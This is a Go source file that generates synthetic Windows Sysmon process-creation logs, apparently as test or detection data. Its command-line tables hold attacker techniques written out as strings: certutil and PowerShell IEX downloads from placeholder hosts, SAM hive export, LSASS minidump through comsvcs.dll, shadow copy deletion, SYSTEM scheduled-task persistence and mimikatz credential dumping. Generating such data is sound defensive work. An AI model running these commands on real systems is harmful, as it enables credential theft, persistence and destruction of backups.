package gen

// process is a program with the command lines that it is started with. In a
// command line %d is a number, %w a word, %u a user and %h 16 hex digits.
type process struct {
	image, parent, description, company string
	lines                               []string
}

var processes = []process{
	{`C:\\Windows\\System32\\svchost.exe`, `C:\\Windows\\System32\\services.exe`, "Host Process for Windows Services", "Microsoft Corporation",
		[]string{`C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s %w`, `C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p`}},
	{`C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe`, `C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe`, "Google Chrome", "Google LLC",
		[]string{`\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=2 --renderer-client-id=%d --time-ticks-at-unix-epoch=-%d --launch-time-ticks=%d --field-trial-handle=%d,i,%h,262144 /prefetch:1`}},
	{`C:\\Windows\\System32\\conhost.exe`, `C:\\Windows\\System32\\cmd.exe`, "Console Window Host", "Microsoft Corporation",
		[]string{`\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1`}},
	{`C:\\Windows\\System32\\cmd.exe`, `C:\\Windows\\explorer.exe`, "Windows Command Processor", "Microsoft Corporation",
		[]string{`cmd.exe /c \"dir C:\\Users\\%u\\Documents\\%w\"`, `C:\\Windows\\system32\\cmd.exe /c wmic process get brief /format:\"https://%w.example/%h.xsl\"`, `\"C:\\Windows\\System32\\cmd.exe\" /c start /min C:\\ProgramData\\%w\\run%d.bat`}},
	{`C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe`, `C:\\Windows\\System32\\cmd.exe`, "Windows PowerShell", "Microsoft Corporation",
		[]string{`powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -File C:\\Scripts\\%w-%d.ps1`, `powershell -nop -w hidden -EncodedCommand %h%h%h%h%h%h`, `powershell.exe -Command \"Get-Service %w | Where-Object {$_.Status -eq 'Running'}\"`}},
	{`C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe`, `C:\\Windows\\explorer.exe`, "Microsoft Edge", "Microsoft Corporation",
		[]string{`\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=%d /prefetch:8`}},
	{`C:\\Windows\\System32\\taskhostw.exe`, `C:\\Windows\\System32\\svchost.exe`, "Host Process for Windows Tasks", "Microsoft Corporation",
		[]string{`taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}`, `taskhostw.exe %w`}},
	{`C:\\Windows\\System32\\wbem\\WmiPrvSE.exe`, `C:\\Windows\\System32\\svchost.exe`, "WMI Provider Host", "Microsoft Corporation",
		[]string{`C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding`}},
	{`C:\\Windows\\System32\\net.exe`, `C:\\Windows\\System32\\cmd.exe`, "Net Command", "Microsoft Corporation",
		[]string{`net user %u /domain`, `net group \"Domain Admins\" /domain`, `net use \\\\srv-%w-%d\\c$ /user:%u`}},
	{`C:\\Windows\\System32\\reg.exe`, `C:\\Windows\\System32\\cmd.exe`, "Registry Console Tool", "Microsoft Corporation",
		[]string{`reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v %w`, `reg add HKCU\\Software\\%w /v setting%d /t REG_SZ /d %h /f`, `reg save HKLM\\SAM C:\\Temp\\%w.hiv`}},
	{`C:\\Windows\\System32\\rundll32.exe`, `C:\\Windows\\explorer.exe`, "Windows host process (Rundll32)", "Microsoft Corporation",
		[]string{`rundll32.exe shell32.dll,Control_RunDLL %w.cpl`, `rundll32.exe C:\\Users\\%u\\AppData\\Local\\Temp\\%w.dll,Start`, `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump %d C:\\Temp\\%w.dmp full`}},
	{`C:\\Windows\\System32\\schtasks.exe`, `C:\\Windows\\System32\\cmd.exe`, "Task Scheduler Configuration Tool", "Microsoft Corporation",
		[]string{`schtasks /query /fo csv /v`, `schtasks /create /tn %w%d /tr C:\\ProgramData\\%w.exe /sc onlogon /ru SYSTEM`}},
	{`C:\\Windows\\System32\\whoami.exe`, `C:\\Windows\\System32\\cmd.exe`, "whoami - displays logged on user information", "Microsoft Corporation", []string{`whoami /all`, `whoami`}},
	{`C:\\Windows\\System32\\msiexec.exe`, `C:\\Windows\\System32\\services.exe`, "Windows installer", "Microsoft Corporation",
		[]string{`C:\\Windows\\system32\\msiexec.exe /V`, `msiexec /i \"C:\\Users\\%u\\Downloads\\%w-%d.msi\" /qn`}},
	{`C:\\Program Files\\Git\\cmd\\git.exe`, `C:\\Program Files\\Microsoft VS Code\\Code.exe`, "Git for Windows", "The Git Development Community",
		[]string{`git.exe fetch --all --prune`, `git.exe -c core.quotepath=false log --max-count=%d --format=%h`}},
	{`C:\\Windows\\System32\\certutil.exe`, `C:\\Windows\\System32\\cmd.exe`, "CertUtil.exe", "Microsoft Corporation",
		[]string{`certutil -hashfile C:\\Temp\\%w.bin SHA256`, `certutil.exe -urlcache -split -f http://%w.example/%h.txt C:\\Temp\\%w.exe`}},
	{`C:\\Windows\\System32\\vssadmin.exe`, `C:\\Windows\\System32\\cmd.exe`, "Command Line Interface for Microsoft Volume Shadow Copy Service", "Microsoft Corporation",
		[]string{`vssadmin list shadows`, `vssadmin.exe delete shadows /all /quiet`}},
}

type sysmon struct {
	which, where, by alias
	hosts, users     []string
	hashes           [][4]uint64
}

func newSysmon(seed uint64) *sysmon {
	r := newRNG(seed, 0)
	s := &sysmon{which: zipf(len(processes)), where: zipf(800), by: zipf(500)}
	for i := range 800 {
		s.hosts = append(s.hosts, string(appendUint([]byte(pick(&r, []string{"WKS-", "LAP-", "SRV-"})), uint64(i), 4))+".corp.example")
	}
	for range 500 {
		s.users = append(s.users, pick(&r, givenNames)+"."+pick(&r, familyNames))
	}
	for range processes {
		s.hashes = append(s.hashes, [4]uint64{r.u64(), r.u64(), r.u64(), r.u64()})
	}
	return s
}

func (s *sysmon) event(b []byte, r *rng, i int, t int64) []byte {
	k := s.which.draw(r)
	p := &processes[k]
	host := s.where.draw(r)
	user := s.users[s.by.draw(r)]
	system := k == 0 || k == 6 || k == 7

	b = append(b, `{"EventID":1,"EventChannel":"Microsoft-Windows-Sysmon/Operational","SourceName":"Microsoft-Windows-Sysmon","Computer":"`...)
	b = append(b, s.hosts[host]...)
	b = append(b, `","RecordNumber":`...)
	b = appendInt(b, 1000000+i)
	b = append(b, `,"UtcTime":"`...)
	b = appendTime(b, t, ' ', true)
	b = append(b, `","ProcessGuid":"`...)
	b = s.guid(b, r, host, t)
	b = append(b, `","ProcessId":`...)
	b = appendInt(b, 4*r.in(100, 8000))
	b = append(append(b, `,"Image":"`...), p.image...)
	b = append(b, `","FileVersion":"10.0.19041.`...)
	b = appendInt(b, 1000+int(s.hashes[k][0]%3000))
	b = append(append(b, `","Description":"`...), p.description...)
	b = append(append(b, `","Company":"`...), p.company...)
	b = append(b, `","CommandLine":"`...)
	if r.chance(50000) {
		b = append(b, pick(r, []string{
			`mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit`,
			`powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://%w.example/Invoke-Mimikatz.ps1')\"`,
			`C:\\Temp\\MIMIKATZ.EXE \"lsadump::sam\"`,
		})...)
	} else {
		b = expandLine(b, r, pick(r, p.lines), user)
	}
	b = append(b, `","CurrentDirectory":"`...)
	if system {
		b = append(b, `C:\\Windows\\system32\\`...)
	} else {
		b = append(append(append(b, `C:\\Users\\`...), user...), `\\`...)
	}
	b = append(b, `","User":"`...)
	if system {
		b = append(b, `NT AUTHORITY\\SYSTEM`...)
	} else {
		b = append(append(b, `CORP\\`...), user...)
	}
	b = append(b, `","LogonGuid":"`...)
	b = s.guid(b, r, host, t-t%3600000)
	b = append(b, `","LogonId":"0x`...)
	if system {
		b = append(b, `3e7`...)
	} else {
		b = appendHex(b, mix(uint64(host)+uint64(t/28800000)), 7)
	}
	b = append(b, `","TerminalSessionId":`...)
	b = appendInt(b, r.n(4))
	b = append(b, `,"IntegrityLevel":"`...)
	if system {
		b = append(b, `System`...)
	} else {
		b = append(b, pick(r, []string{"Medium", "Medium", "Medium", "High"})...)
	}
	b = append(b, `","Hashes":"SHA256=`...)
	for _, h := range s.hashes[k] {
		b = appendHexUpper(b, h, 16)
	}
	b = append(b, `,IMPHASH=`...)
	b = appendHexUpper(appendHexUpper(b, mix(s.hashes[k][0]), 16), mix(s.hashes[k][1]), 16)
	b = append(b, `","ParentProcessGuid":"`...)
	b = s.guid(b, r, host, t-60000)
	b = append(b, `","ParentProcessId":`...)
	b = appendInt(b, 4*r.in(100, 8000))
	b = append(append(b, `,"ParentImage":"`...), p.parent...)
	b = append(append(b, `","ParentCommandLine":"`...), p.parent...)
	if r.pct(30) {
		b = append(append(b, ` /c `...), pick(r, words)...)
	}
	return append(b, `"}`...)
}

func (s *sysmon) guid(b []byte, r *rng, host int, t int64) []byte {
	b = append(b, '{')
	b = append(appendHexUpper(b, mix(uint64(host)), 8), '-')
	b = append(appendHexUpper(b, uint64(t)>>16, 4), '-')
	b = append(appendHexUpper(b, uint64(t), 4), '-')
	b = append(appendHexUpper(b, r.u64(), 4), `-0000`...)
	b = appendHexUpper(b, uint64(r.n(1<<32)), 8)
	return append(b, '}')
}

func expandLine(b []byte, r *rng, line, user string) []byte {
	for i := 0; i < len(line); i++ {
		if line[i] != '%' || i+1 == len(line) {
			b = append(b, line[i])
			continue
		}
		i++
		switch line[i] {
		case 'd':
			b = appendInt(b, r.n(100000))
		case 'w':
			b = append(b, pick(r, words)...)
		case 'u':
			b = append(b, user...)
		case 'h':
			b = appendHex(b, r.u64(), 16)
		default:
			b = append(b, '%', line[i])
		}
	}
	return b
}
